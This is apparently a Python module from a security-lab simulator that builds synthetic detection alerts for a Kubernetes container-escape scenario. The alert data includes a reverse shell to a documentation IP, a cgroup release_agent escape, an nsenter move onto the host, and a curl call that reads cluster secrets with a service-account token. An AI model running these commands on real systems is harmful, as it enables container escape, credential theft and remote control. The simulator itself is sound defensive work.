"""Attacks on clusters."""

from __future__ import annotations

from isthmus.lab import hostile
from isthmus.lab.scenes import Scene, seen
from isthmus.model.assets import Asset, AssetKind
from isthmus.model.findings import Tie, Vulnerability
from isthmus.model.severity import Severity

CRITICAL, HIGH, MEDIUM, LOW = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def container_escape(scene: Scene) -> None:
    company, taken = scene.company, scene.cast.taken
    pod = scene.cast.take(AssetKind.POD, fits=lambda one: company.tied(one, "runs_on").ids[0] not in taken)
    container = scene.cast.also(company.tied(pod, "touches"))
    node, image = scene.cast.also(company.tied(pod, "runs_on")), scene.cast.also(company.tied(pod, "uses_image"))
    hole = Vulnerability(
        "CVE-2021-44228", "log4j-core", "2.14.1", "2.17.1", 10.0, epss=0.94, exploited=True, exploit_exists=True
    )
    scene.flaw("prisma", image, CRITICAL, hole)
    scene.flaw("lacework", image, CRITICAL, hole)
    title = "Pod runs privileged with the host's file system mounted"
    scene.risk("wiz", pod, HIGH, "wc-id-241", title, privileged=True)
    _inside(scene, pod, container)
    _out(scene, pod, container, node)
    _with_its_token(scene, pod)


def _inside(scene: Scene, pod: Asset, container: Asset) -> None:
    attacker = f"192.0.2.{scene.rng.randrange(231, 240)}"
    shell = seen(ip=attacker, process="bash -c bash -i >& /dev/tcp/192.0.2.231/9001")
    rule = "Redirect STDOUT/STDIN to Network Connection in Container"
    title = "Redirect stdout/stdin to network connection (user=root proc=bash)"
    scene.threat(0, "falco", pod, LOW, rule, title, shell, attack=("T1059",))
    title = f"Execution of a shell by java in container {container.name}"
    scene.threat(1, "prisma", container, HIGH, "reverseShell", title, shell)
    rule, title = "Execution:Runtime/ReverseShell", "A process in a container opened a reverse shell."
    scene.copied(scene.threat(5, "guardduty", container, HIGH, rule, title, shell, attack=("T1059.004",)))
    process = seen(process="sh -c id; mount; cat /proc/1/cgroup")
    scene.threat(9, "falco", pod, LOW, "Terminal shell in container", "A shell was spawned in a container", process)


def _out(scene: Scene, pod: Asset, container: Asset, node: Asset) -> None:
    process = seen(process="sh -c echo /tmp/x > /sys/fs/cgroup/release_agent")
    title = "Detect an attempt to exploit a container escape using release_agent file"
    scene.threat(18, "falco", pod, CRITICAL, "Detect release_agent File Container Escapes", title, process, attack=("T1611",))
    rule = "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory"
    title = "A container mounted a directory of its host."
    scene.threat(20, "guardduty", container, MEDIUM, rule, title, process, attack=("T1611",))
    title = f"New privileged process on node {node.name}"
    process = seen(process="nsenter -t 1 -m -u -i -n sh")
    scene.threat(26, "lacework", node, MEDIUM, "NewPrivilegeEscalation", title, process)
    scene.threat(29, "wiz", node, HIGH, "container-escape", "Container escape to the node", process, (Tie("touches", pod),))


def _with_its_token(scene: Scene, pod: Asset) -> None:
    cluster = scene.company.tied(pod, "part_of")
    process = seen(process="curl -k -H Authorization:Bearer https://10.100.0.1/api/v1/secrets")
    title = "Unexpected connection to K8s API Server from container"
    scene.threat(41, "falco", pod, LOW, "Contact K8S API Server From Container", title, process, text=hostile.ORDERS[1])
    rule = "CredentialAccess:Kubernetes/AnomalousBehavior.SecretsAccessed"
    title = f"Secrets of EKS cluster {cluster.name} were read in an unusual way."
    api = seen(ip="192.0.2.241", api="eks:list secrets")
    scene.threat(55, "guardduty", pod, MEDIUM, rule, title, api, attack=("T1552.007",))
    title = "Service account token used from outside the cluster"
    scene.threat(62, "wiz", pod, HIGH, "k8s-token-outside", title, seen(ip="192.0.2.241"), attack=("T1528",))
